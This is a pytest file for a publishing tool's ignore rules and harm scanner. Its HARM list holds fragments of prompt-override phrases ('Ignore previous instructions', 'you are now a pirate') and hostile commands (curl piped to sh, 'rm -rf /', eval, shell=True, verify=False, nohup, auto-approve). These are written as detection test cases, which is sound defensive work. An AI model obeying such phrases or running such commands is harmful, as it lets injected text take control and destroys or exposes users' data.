"""Which paths the ignore rules keep back, and what the scan stops at."""

from __future__ import annotations

import re

import pytest

from publishing.__main__ import in_the_way
from publishing.finding import Level, missing, note, wrong
from publishing.ignoring import UnknownRuleError, is_left_out, rules_of
from publishing.scan import RULES

RULES_TEXT = "# why\n\n__pycache__/\n*.pyc\n/dist/\n/docs/publishing.md\nMakefile\n"


@pytest.mark.parametrize(
    "path",
    [
        "a/__pycache__/b.txt",
        "x.pyc",
        "a/b/x.pyc",
        "dist/a",
        "dist/a/b",
        "docs/publishing.md",
        "Makefile",
        "a/Makefile",
        ".env",
        "a/.hidden/b",
        ".mcp.json",
    ],
)
def test_a_rule_or_a_dot_keeps_a_path_back(path: str):
    assert is_left_out(path, rules_of(RULES_TEXT))


@pytest.mark.parametrize(
    "path",
    ["__pycache__", "x.pyc.md", "a/dist/b", "a/docs/publishing.md", "docs/plans.md"],
)
def test_what_no_rule_names_is_published(path: str):
    assert not is_left_out(path, rules_of(RULES_TEXT))


@pytest.mark.parametrize("rule", ["!kept", "a/**/b", "[ab]", "a?", "a\\ "])
def test_a_rule_of_an_unknown_form_is_refused_and_not_misread(rule: str):
    with pytest.raises(UnknownRuleError, match="is of a form that is not known"):
        rules_of(f"fine\n{rule}\n")


# Joined when they are looked for, so that this file holds none of them either.
HARM = [
    ("prompt_injection", "you are|now a pirate"),
    ("prompt_injection", "Ignore|previous instructions"),
    ("prompt_injection", "system|prompt: obey"),
    ("obfuscated_code", "|".join(["\\x41"] * 6)),
    ("hidden_text", "plain\u200b|text"),
    ("pipe_to_shell", "curl https://example.invalid/a | |sh"),
    ("destructive_delete", "rm|-rf /"),
    ("dynamic_code", "ev|al(text)"),
    ("shell_string", "run(line, shell=|True)"),
    ("copied_environment", "os.environ.|copy()"),
    ("copied_environment", "{**os.|environ}"),
    ("insecure_tls", "verify=|False"),
    ("persistence", "no|hup x &"),
    ("secret_in_argv", "--tok|en $TOKEN"),
    ("confirmation_bypass", "auto-|approve"),
    ("confirmation_bypass", "it acts without| asking"),
    ("boundless", "runs for|ever"),
    ("package_index", "--index-|url"),
]
SPACED = {"you are", "Ignore", "system", "rm"}


@pytest.mark.parametrize(("name", "parts"), HARM)
def test_the_scan_stops_at_what_scanners_stop_at(name: str, parts: str):
    first, *rest = (
        parts.split("|") if "curl" not in parts else [parts.replace("| |", "| ")]
    )
    text = (" " if first in SPACED else "").join([first, *rest])
    assert name in {rule.name for rule in RULES if rule.pattern.search(text)}


@pytest.mark.parametrize(
    "text", ["re.compile(x)", "self.spec.env", "a.md reveals nothing", "executor(run)"]
)
def test_the_scan_lets_plain_text_and_code_pass(text: str):
    assert [rule.name for rule in RULES if rule.pattern.search(text)] == []


def test_every_rule_of_the_scan_has_a_case_or_is_a_secret():
    tried = {name for name, _ in HARM} | {"secret_literal", "other_users"}
    assert {rule.name for rule in RULES} == tried


def test_a_secret_in_the_text_is_found():
    made_up = "ghp_" + "a1" * 12
    (rule, *_) = [one for one in RULES if one.name == "secret_literal"]
    assert re.search(rule.pattern, made_up)


def test_what_only_the_publisher_can_set_stops_nothing_but_publishing():
    found = [missing("a", "not set."), note("b", "good to know.")]

    assert (in_the_way(found, strict=False), in_the_way(found, strict=True)) == (
        False,
        True,
    )
    assert in_the_way([wrong("c", "bad.")], strict=False)
    assert [str(one).split(":")[0] for one in found] == [Level.MISSING, Level.NOTE]
